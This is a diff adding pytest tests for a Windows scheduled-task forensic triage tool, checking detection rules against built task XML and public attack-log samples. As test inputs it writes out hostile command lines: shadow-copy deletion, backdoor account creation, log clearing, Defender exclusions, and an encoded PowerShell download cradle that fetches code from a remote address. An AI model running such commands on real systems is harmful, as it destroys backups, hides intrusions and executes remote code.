@@ -1,0 +1,316 @@
+"""Issue 19 items 2-4 and 21.5: stock baselines, the tradecraft rules, rebuilt command-line tasks, honest titles.
+
+Task definitions are builder-made task XML (test_images.windows_tree) read by the real parser, or real
+public logs and task files from ../shared/corpus; every check is the one a run applies.
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+
+from test_images.taskxml import el, render
+from test_images.windows_tree import exec_action, principal, registration_info, schtasks_settings, task_element
+from triage.cli import main
+from triage.collect import Context
+from triage.correlate import correlate
+from triage.detect import RISK_ORDER, JudgeContext, build_findings
+from triage.detect.baseline import is_stock_name, load_baseline, release_of
+from triage.parsers.evtx_task import task_event, unlink_task_folders
+from triage.parsers.task_xml import parse_task_xml
+from triage.records import HostInfo, Provenance
+from triage.run import CHECKS, run
+
+CORPUS = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus"
+ATTACK = CORPUS / "sbousseaden__EVTX-ATTACK-SAMPLES"
+WIN10_TASKS = CORPUS / "AndrewRathbun__DFIRArtifactMuseum/Windows/ScheduledTasks/Win10/APTSimulatorVM"
+BELKASOFT_LOG = (CORPUS / "AndrewRathbun__DFIRArtifactMuseum/Windows/EventLogs/Win10/BelkasoftCTF_InsiderThreat/"
+                 "BelkasoftCTF_InsiderThreat.7z.extracted/Microsoft-Windows-TaskScheduler%4Operational.evtx")
+USER_SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
+HOST = "WS-TEST-01"
+
+
+def _xml(task: str, command: str, arguments: str | None = None, *, user: str = USER_SID, run_level: str = "LeastPrivilege",
+         interval: str | None = None, hidden: bool = False) -> bytes:
+    repetition = (el("Repetition", el("Interval", interval), el("StopAtDurationEnd", "false")),) if interval else ()
+    trigger = el("TimeTrigger", *repetition, el("StartBoundary", "2024-03-12T09:00:00"), el("Enabled", "true"))
+    return render(task_element(registration_info(task, "2024-03-12T09:00:00", rf"{HOST}\analyst"), (trigger,),
+                               schtasks_settings(hidden), (exec_action(command, arguments),), principal(user, run_level)))
+
+
+def _definition(task: str, *args, **kwargs):
+    definition = parse_task_xml(_xml(task, *args, **kwargs), task=task, local_tz=None,
+                                provenance=Provenance(artifact="task_xml", location=f"Windows/System32/Tasks{task}"))
+    definition.host = HOST
+    return definition
+
+
+def _judge(definitions=(), events=(), hosts=()):
+    entities, _ = correlate(list(definitions), list(events), [], [])
+    ctx = JudgeContext(hunt_date="20260101", baseline=load_baseline(list(hosts)))
+    return build_findings([(e, [h for check in CHECKS for h in check(e, ctx)]) for e in entities], ctx)
+
+
+def _one(findings, task):
+    found = [f for f in findings if f.task == task]
+    assert len(found) == 1, [(f.task, f.rule) for f in findings]
+    return found[0]
+
+
+def _rules(finding) -> set[str]:
+    return {r["rule"] for r in finding.details["reasons"]}
+
+
+# -- honest titles: words in paths are not behaviour ---------------------------------------------------
+
+@pytest.mark.parametrize("task,command,arguments", [
+    (r"\AdBlocker Update", r"C:\Program Files\AdBlocker\abupdate.exe", "/silent"),
+    (r"\Dell\EmsPolicyRefresh", r"C:\Program Files\Dell\Dell Data Protection\Encryption\EmsPolicyRefresh.exe", None),
+])
+def test_hostile_looking_benign_tasks_stay_below_medium(task, command, arguments):
+    findings = _judge([_definition(task, command, arguments, user="S-1-5-18")])
+    assert all(RISK_ORDER[f.risk_level] < RISK_ORDER["Medium"] for f in findings), [(f.title, f.risk_level) for f in findings]
+    assert not any("shadow" in f.title.lower() or "ransom" in f.title.lower() for f in findings)
+
+
+def test_shadow_copy_deletion_is_still_critical_with_a_title_that_says_so():
+    finding = _one(_judge([_definition(r"\Cleanup", "cmd.exe", "/c vssadmin.exe delete shadows /all /quiet")]), r"\Cleanup")
+    assert finding.risk_level == "Critical" and finding.title.startswith("Task deletes shadow copies or backups")
+
+
+# -- the tradecraft rules ----------------------------------------------------------------------------
+
+def test_hidden_window_powershell_every_two_minutes_under_a_user_is_raised_above_high():
+    task = r"\Updater"
+    finding = _one(_judge([_definition(task, "powershell.exe", "-WindowStyle Hidden -nop -c \"iex (gc $env:TEMP\\u.txt)\"",
+                                       interval="PT2M")]), task)
+    assert {"hidden_powershell", "very_short_repetition"} <= _rules(finding)
+    assert finding.risk_level == "Critical"  # High, raised one level by the 2-minute repetition
+    assert "raised: very_short_repetition" in finding.title
+
+
+def test_every_thirty_minutes_alone_raises_nothing():
+    finding = _one(_judge([_definition(r"\Sync", r"C:\Program Files\Sync\sync.exe", interval="PT30M")]), r"\Sync")
+    assert finding.risk_level == "Low" and _rules(finding) == {"short_repetition"}
+
+
+@pytest.mark.parametrize("arguments,rule", [
+    ("/c net user backup P@ssw0rd1 /add", "account_creation"),
+    ("/c wevtutil cl Security", "log_clearing"),
+    ("-c Add-MpPreference -ExclusionPath C:\\ProgramData\\svc", "defender_exclusion"),
+])
+def test_account_creation_log_clearing_and_defender_exclusions_are_high(arguments, rule):
+    command = "powershell.exe" if arguments.startswith("-c") else "cmd.exe"
+    finding = _one(_judge([_definition(r"\Maint", command, arguments)]), r"\Maint")
+    assert rule in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]
+
+
+def test_script_run_as_system_from_outside_windows_is_high_and_inside_windows_is_not():
+    outside = _one(_judge([_definition(r"\Tools", "cmd.exe", r"/c C:\tools\x.cmd", user="S-1-5-18")]), r"\Tools")
+    assert "script_privileged_outside_system" in _rules(outside) and outside.risk_level == "High"
+    npcap = _judge([_definition(r"\Npcap Watchdog", r'"C:\Program Files\Npcap\CheckStatus.bat"', user="S-1-5-18")])
+    assert not any("script_privileged_outside_system" in _rules(f) for f in npcap)
+
+
+def test_task_under_microsoft_folder_running_a_non_microsoft_program_is_high():
+    task = r"\Microsoft\Windows\Maintenance\HealthScan"
+    finding = _one(_judge([_definition(task, r"C:\Users\Public\hs.exe")]), task)
+    assert "masquerading_microsoft_folder" in _rules(finding) and finding.risk_level == "High"
+    office = _judge([_definition(r"\Microsoft\Office\Office ClickToRun Service Monitor",
+                                 r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe", "/watchservice")])
+    assert not any("masquerading_microsoft_folder" in _rules(f) for f in office)
+
+
+def test_stock_name_in_a_folder_windows_never_uses_is_medium():
+    finding = _one(_judge([_definition(r"\CacheTask", r"C:\ProgramData\cache\ct.exe")]), r"\CacheTask")
+    assert "stock_name_wrong_folder" in _rules(finding)
+    assert "\\Microsoft\\Windows\\Wininet" in " ".join(e.value for e in finding.evidence)
+
+
+def test_vendor_name_with_a_program_outside_the_vendor_install_path_is_high_and_the_real_one_is_quiet():
+    task = r"\GoogleUpdateTaskMachineUA"
+    real = _judge([_definition(task, r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler",
+                               user="S-1-5-18")])
+    assert real == []
+    fake = _one(_judge([_definition(task, r"C:\Users\Public\GoogleUpdate.exe", "/ua", user="S-1-5-18")]), task)
+    assert "vendor_name_other_program" in _rules(fake) and fake.risk_level == "High"
+
+
+def test_gpp_cpassword_of_the_built_image_is_a_credential_finding(committed_windows_e01):
+    case = run([str(committed_windows_e01)], Context(quiet=True), hunt_date="20260101")
+    exposed = [f for f in case.findings if "gpp_cpassword" in _rules(f)]
+    assert {f.task for f in exposed} == {r"\Deploy Helpdesk Tool", r"\Inventory Agent"}
+    assert all("T1552.006" in f.techniques for f in exposed)
+    # decoded PowerShell reaches every content rule: the cradle exists only inside -EncodedCommand
+    encoded = _one(case.findings, r"\Microsoft\Windows\UpdateOrchestrator\USO_Health")
+    assert {"download_cradle", "encoded_powershell"} <= _rules(encoded)
+
+
+def test_encoded_download_cradle_is_seen_through_the_encoding():
+    payload = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')".encode("utf-16-le")).decode()
+    finding = _one(_judge([_definition(r"\Telemetry", "powershell.exe", f"-enc {payload}")]), r"\Telemetry")
+    assert {"download_cradle", "encoded_powershell", "hidden_powershell"} <= _rules(finding)
+    assert any("198.51.100.7" in e.value for e in finding.evidence)
+
+
+# -- task-creating command lines in logs -------------------------------------------------------------
+
+def _event(fields: dict):
+    base = {"Channel": "Security", "EventID": 4688, "TimeCreated_SystemTime": "2024-03-12T09:00:00.000000Z",
+            "EventRecordID": 77, "Computer": f"{HOST}.corp.example", "SubjectUserName": "analyst",
+            "SubjectDomainName": "CORP", "NewProcessName": r"C:\Windows\System32\schtasks.exe"}
+    return task_event({**base, **fields}, location="Security.evtx")
+
+
+def test_schtasks_minute_script_as_system_from_a_4688_command_line_is_judged_like_a_definition():
+    event = _event({"CommandLine": r"schtasks /create /sc minute /mo 1 /tn NAME /tr C:\tools\x.cmd /ru SYSTEM"})
+    finding = _one(_judge(events=[event]), r"\NAME")
+    assert {"script_privileged_outside_system", "very_short_repetition"} <= _rules(finding)
+    assert finding.risk_level == "Critical"
+
+
+def test_remote_creation_seen_only_as_a_4688_command_line_is_high():
+    event = _event({"CommandLine": r'schtasks /create /s OTHERHOST /u CORP\adm /p x /tn Upd /tr "C:\Windows\Temp\u.exe" /sc onstart /ru SYSTEM'})
+    finding = _one(_judge(events=[event]), r"\Upd")
+    assert "remote_task_creation" in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]
+    [definition] = [d for d in correlate([], [event], [], [])[0][0].definitions]
+    assert definition.details["remote_target"] == "OTHERHOST"
+    assert definition.details["creating_user"] == r"CORP\analyst" and definition.details["creating_host"] == f"{HOST}.corp.example"
+    local = _event({"CommandLine": "schtasks /create /s localhost /tn Loc /tr calc.exe /sc daily"})
+    assert not any("remote_task_creation" in _rules(f) for f in _judge(events=[local]))
+
+
+def test_quoted_name_in_cmd_c_makes_one_task_and_folder_events_make_none():
+    creation = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": r"C:\Windows\System32\cmd.exe",
+                       "CommandLine": 'cmd /C "schtasks /create /xml x.xml /tn \\Vendor\\NAME"', "User": r"CORP\analyst"})
+    folder = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "EventRecordID": 78,
+                     "TargetFilename": r"C:\Windows\System32\Tasks\Vendor", "Image": r"C:\Windows\System32\svchost.exe"})
+    file = _event({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "EventRecordID": 79,
+                   "TargetFilename": r"C:\Windows\System32\Tasks\Vendor\NAME", "Image": r"C:\Windows\System32\svchost.exe"})
+    events = [creation, folder, file]
+    assert unlink_task_folders(events, []) == 1
+    entities, _ = correlate([], events, [], [])
+    assert [e.task for e in entities] == [r"\Vendor\NAME"]
+
+
+def test_task_known_only_from_events_shows_its_action_not_the_creating_command(capsys):
+    log = ATTACK / "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
+    main([str(log), "--task", r"\MSOFFICE_", "-q", "--hunt-date", "20260101"])
+    out = capsys.readouterr().out
+    actions = next(line for line in out.splitlines() if line.startswith("Actions:"))
+    assert actions == "Actions: mshta.exe https://hotelesms.com/Injection.txt"
+
+
+def test_create_then_delete_within_seconds_is_high_on_the_real_atexec_log():
+    case = run([str(ATTACK / "Execution/temp_scheduled_task_4698_4699.evtx")], Context(quiet=True), hunt_date="20260101")
+    finding = _one(case.findings, r"\CYAlyNSS")
+    assert "task_created_then_deleted" in _rules(finding) and finding.risk_level == "High"
+    assert {e.source for e in finding.evidence} >= {"Security 4698", "Security 4699"}
+
+
+# -- stock baselines ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("os_text,release", [
+    ("Windows 10 Pro (NT 10.0) 19045.4170", "10"),
+    ("Windows 10 Pro (NT 10.0) 22631.2861", "11"),  # Windows 11 keeps ProductName "Windows 10"
+    ("Windows Server 2016 Standard (NT 10.0) 14393.0", "2016"),
+    ("Windows Server 2019 Datacenter (NT 10.0) 17763.1", "2019"),
+    ("Windows Server 2022 Standard (NT 10.0) 20348.1", "2022"),
+    ("Windows Server 2012 R2 Standard (NT 6.3) 9600", "2012R2"),
+    ("Windows 8.1 Pro (NT 6.3) 9600", "8.1"),
+    ("Windows 7 Professional (NT 6.1) 7601", "7"),
+    (None, None),
+])
+def test_release_is_read_from_product_name_and_build(os_text, release):
+    assert release_of(os_text) == release
+
+
+def test_real_windows10_task_folder_raises_nothing_at_medium_for_its_stock_tasks():
+    definitions = []
+    files = sorted(p for p in WIN10_TASKS.rglob("*") if p.is_file())
+    for path in files:
+        task = "\\" + str(path.relative_to(WIN10_TASKS)).replace("/", "\\")
+        definition = parse_task_xml(path.read_bytes(), task=task, local_tz=None,
+                                    provenance=Provenance(artifact="task_xml", location=str(path)))
+        definition.host = "DESKTOP-TMKU40H"
+        definitions.append(definition)
+    hosts = [HostInfo(hostname="DESKTOP-TMKU40H", os="Windows 10 Pro (NT 10.0) 19044.1586")]
+    findings = _judge(definitions, hosts=hosts)
+    loud = {f.task: f.risk_level for f in findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]}
+    assert len(definitions) == len(files) > 200
+    assert loud == {r"\GameOver": "Critical"}  # APTSimulator's mimikatz task, the folder's one malicious entry
+
+
+def test_stock_action_of_another_release_is_judged_by_the_host_release():
+    task = r"\Microsoft\Windows\Defrag\ScheduledDefrag"
+    server_variant = _definition(task, r"%windir%\system32\defrag.exe", "-c -h -k -g -$", user="S-1-5-18")
+    server = [HostInfo(hostname=HOST, os="Windows Server 2016 Standard (NT 10.0) 14393.0")]
+    assert _judge([server_variant], hosts=server) == []
+    hijacked = _definition(task, r"C:\ProgramData\defrag.exe", "-c -h -k -g -$", user="S-1-5-18")
+    finding = _one(_judge([hijacked], hosts=server), task)
+    assert "stock_task_changed" in _rules(finding) and finding.risk_level == "High"
+    assert "defrag.exe -c -h -k -g -$" in finding.evidence[0].value  # the stock action of Server 2016
+    assert is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline(server))
+    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
+    assert not is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline(windows10))
+    # event logs name the host by FQDN, the registry by its short name: the same host, the same release
+    assert not is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", f"{HOST}.corp.example", load_baseline(windows10))
+    assert is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline([]))  # unknown: union
+
+
+def test_real_windows10_task_log_alone_gives_no_medium_finding_from_the_rules():
+    case = run([str(BELKASOFT_LOG)], Context(quiet=True), hunt_date="20260101")
+    ours = {"stock_task_changed", "stock_name_wrong_folder", "vendor_name_other_program", "task_created_then_deleted"}
+    loud = [(f.task, f.rule) for f in case.findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]
+            and (_rules(f) & ours or any(r.startswith("sigma:") for r in _rules(f)))]
+    assert loud == []
+
+
+# -- the public attack samples, logs only -------------------------------------------------------------
+
+DETECTED = {  # file -> a task (or rule title) found at Medium or above
+    "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx": r"\DataUsageHandlers",
+    "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx": r"\spawn",
+    "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx": r"\mysc",
+    "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx": r"\MSOFFICE_",
+    "Execution/sysmon_exec_from_vss_persistence.evtx": r"\eyNQLDvUSuvVPg",
+    "Execution/temp_scheduled_task_4698_4699.evtx": r"\CYAlyNSS",
+    "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx": r"\CYAlyNSS",
+    "Lateral Movement/remote task update 4624 4702 same logonid.evtx": r"\LMST",
+    "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx": r"\FullPowersTask",
+    "Privilege Escalation/Sysmon_UACME_34.evtx": "(no task) UAC Bypass Using Disk Cleanup",
+    "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx": r"\elevator",
+}
+QUIET = {  # benign noise or context only (PROVENANCE.md notes), must stay below Medium
+    "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx",
+    "Lateral Movement/LM_sysmon_remote_task_src_powershell.evtx",
+    "Privilege Escalation/PrivEsc_CVE-2020-1313_Sysmon_13_UScheduler_Cmdline.evtx",
+}
+
+
+def test_attack_samples_found_from_logs_alone():
+    """Before issue 19 the shipped rules found 5 of these 18 logs at Medium or above; now 11 (the rest
+    are benign noise, context without a task event, or task runs whose creation is not in the log)."""
+    loud = {}
+    for path in sorted(ATTACK.rglob("*.evtx")):
+        case = run([str(path)], Context(quiet=True), hunt_date="20260101")
+        loud[str(path.relative_to(ATTACK))] = {f.task for f in case.findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]}
+    assert len(loud) == 18
+    assert {name for name, tasks in loud.items() if tasks} == set(DETECTED)
+    assert all(task in loud[name] for name, task in DETECTED.items())
+    assert all(not loud[name] for name in QUIET)
+
+
+def test_task_registered_in_a_network_logon_session_is_remote_creation_on_the_real_logs():
+    """4702 written in the session a 4624 type 3 logon opened (same logon id): changed from another computer."""
+    case = run([str(ATTACK / "Lateral Movement/remote task update 4624 4702 same logonid.evtx")], Context(quiet=True),
+               hunt_date="20260101")
+    finding = _one(case.findings, r"\LMST")
+    assert "remote_task_creation" in _rules(finding)
+    [entity] = [e for e in case.entities if e.task == r"\LMST"]
+    session = next(d.details["created_over_network_logon"] for d in entity.definitions if d.source == "evtx_4702")
+    assert session["logon_id"] and session["source_address"] and session["account"]
+    local = run([str(ATTACK / "Execution/temp_scheduled_task_4698_4699.evtx")], Context(quiet=True), hunt_date="20260101")
+    assert "remote_task_creation" not in _rules(_one(local.findings, r"\CYAlyNSS"))  # no 4624 in that log
